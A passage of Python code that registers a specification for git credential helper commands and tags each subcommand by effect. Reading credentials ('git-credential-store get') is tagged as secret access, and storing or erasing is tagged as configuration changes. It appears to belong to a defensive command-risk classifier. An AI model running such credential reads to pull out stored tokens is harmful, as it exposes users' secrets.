    options={"--file --socket --timeout": "val", "-h --help --version": "flag"},
    subcommands={
        "get": Spec("get", version=_GIT_HELPER, operands="", effects="secret"),
        "store erase approve reject": Spec("store", version=_GIT_HELPER, operands="", effects="config"),
        "exit": Spec("exit", version=_GIT_HELPER, operands=""),
        "configure unconfigure": Spec("configure", version=_GIT_HELPER, operands="", effects="config"),
    },
    examples={"git-credential-store get": "secret", "git-credential-osxkeychain erase": "config"},
)
SPECS += [GIT_CREDENTIAL_HELPER]
